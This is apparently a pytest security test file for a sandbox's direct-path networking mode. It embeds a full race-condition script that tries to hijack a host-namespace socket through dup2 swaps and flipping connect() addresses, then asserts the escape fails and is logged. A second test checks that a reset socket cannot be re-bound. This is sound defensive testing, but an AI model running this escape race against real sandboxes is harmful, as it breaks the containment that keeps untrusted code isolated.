# SPDX-License-Identifier: Apache-2.0
"""A hostile sandbox races a non-IP connect() against the host's socket.

On the direct path the sandbox holds a socket the host connected (it lives in
the host's network namespace). Were any connect() handed back to the kernel to
run again (a seccomp CONTINUE), the kernel would read the descriptor and the
address a second time, after the host's check: a thread that swaps the host's
socket onto the descriptor (dup2) while another process flips the address
from a Unix path to AF_UNSPEC, then to the host's loopback, gets the host's
socket disconnected and connected wherever the host reaches. The test server
on the gate side's loopback (LOOP_PORT) logs every request it receives, so a
request carrying this run's mark there is the escape."""

import errno
import json
import os
import secrets
import sys

import pytest

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "integration"))
import netns  # noqa: E402
from netns import HTTP_PORT, LOOP_PORT  # noqa: E402
from test_transparent import NAME, run  # noqa: E402

DIRECT = {"network": {"directPath": True, "budget": {"rate": 0}}}


from netns import net  # noqa: E402,F401  (the test network, one per module)


RACE = r'''
import ctypes, errno, json, mmap, os, signal, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
name, port, loop_port, mark = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]

UNIX = (struct.pack("=H", socket.AF_UNIX) + b"/nonexistent-airlock").ljust(110, b"\0")
UNSPEC = bytes(110)
LOOP = (struct.pack("=H", socket.AF_INET) + struct.pack("!H", loop_port)
        + socket.inet_aton("127.0.0.1") + bytes(8)).ljust(110, b"\0")

host = socket.socket()  # the direct path: a socket of the host's
host.settimeout(10)
host.connect((name, port))
host.setblocking(True)
unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
H, U = host.fileno(), unix.fileno()
F = os.dup(U)  # the descriptor every connect() below names

# The address lives in memory a second process flips all the time.
mm = mmap.mmap(-1, 4096)
buf = ctypes.c_char.from_buffer(mm)
mode = mmap.mmap(-1, 4096)  # byte 0: 1 flip to AF_UNSPEC, 2 to loopback, 0 stop
mm[0:110] = UNIX
pid = os.fork()
if pid == 0:
    while True:
        m = mode[0]
        if m == 0:
            os._exit(0)
        mm[0:110] = UNSPEC if m == 1 else LOOP
        mm[0:110] = UNIX

# A thread swaps the host's socket and the sandbox's own onto F.
stop = False
def swap():
    while not stop:
        libc.dup2(H, F)
        libc.dup2(U, F)
threading.Thread(target=swap, daemon=True).start()

def connected(s):
    try:
        return s.getpeername()
    except OSError:
        return None

out = {"disconnected": False, "loop": None, "tries": 0}
deadline = time.monotonic() + 6
mode[0] = 1
while time.monotonic() < deadline:
    out["tries"] += 1
    libc.connect(F, ctypes.byref(buf), 110)
    if mode[0] == 1 and connected(host) is None:
        out["disconnected"] = True
        mode[0] = 2
    elif mode[0] == 2:
        peer = connected(host)
        if peer and peer[1] == loop_port:
            out["loop"] = list(peer)
            break
stop = True
mode[0] = 0
os.waitpid(pid, 0)
if out["loop"]:
    host.settimeout(5)
    try:
        host.sendall(("GET /hello.txt?m=%s HTTP/1.0\r\n\r\n" % mark).encode())
        out["answer"] = host.recv(100).decode(errors="replace")
    except OSError as e:
        out["answer"] = e.errno
print(json.dumps(out))
'''


def test_unix_connect_race_cannot_turn_the_hosts_socket(airlock, net):
    mark = secrets.token_hex(6)
    r = run(airlock, net,
            f"python3 /workspace/r.py {NAME} {HTTP_PORT} {LOOP_PORT} {mark}",
            "--cpus", str(os.cpu_count() or 1),
            files={"r.py": RACE}, policy=DIRECT, timeout=60)
    assert r.returncode == 0, r.stderr
    out = json.loads(r.stdout)
    assert net.requests(mark) == [], (out, net.requests(mark))
    assert out["loop"] is None, out
    assert not out["disconnected"], out
    assert out["tries"] > 50, out  # the race ran
    # Every attempt on the host's socket was refused and recorded.
    reuse = [d for d in r.of("transparent", "deny") if d.get("reason") == "host_socket_reuse"]
    assert reuse, r.records


RESET = r'''
import errno, json, socket, sys, time
name, port = sys.argv[1], int(sys.argv[2])
out = {}
s = socket.socket()  # the direct path: a socket of the host's
s.settimeout(10)
s.connect((name, port))
s.sendall(b"GET /hello.txt HTTP/1.0\r\nHost: x\r\n\r\n")
while s.recv(65536):
    pass
# The server has closed: more bytes make it answer with a reset, which
# takes the host's socket to the closed state.
for _ in range(20):
    try:
        s.send(b"x")
        time.sleep(0.05)
    except OSError as e:
        out["reset"] = e.errno
        break
try:
    s.bind(("0.0.0.0", 0))
    out["bind"] = list(s.getsockname())
except OSError as e:
    out["bind"] = e.errno
print(json.dumps(out))
'''


def test_reset_host_socket_cannot_be_bound_in_the_hosts_namespace(airlock, net):
    """A TCP socket reset by its peer gives up its port and may be bound
    again: were the direct path's socket so, the sandbox could hold ports of
    the host's own network namespace."""
    r = run(airlock, net, f"python3 /workspace/r.py {NAME} {HTTP_PORT}",
            files={"r.py": RESET}, policy=DIRECT, timeout=60)
    assert r.returncode == 0, r.stderr
    out = json.loads(r.stdout)
    assert "reset" in out, out
    assert out["bind"] == errno.EINVAL, out
